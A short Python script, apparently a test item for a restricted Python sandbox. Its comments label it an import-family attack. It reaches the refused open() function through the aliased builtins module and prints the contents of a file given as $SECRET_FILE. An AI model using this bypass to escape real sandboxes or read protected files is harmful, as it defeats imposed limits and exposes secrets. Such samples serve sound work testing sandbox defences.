# attack: the module of all builtins, from which the refused ones were never taken
# family: import
import builtins as b
print("REACHED", b.open)
print(b.open("$SECRET_FILE").read())
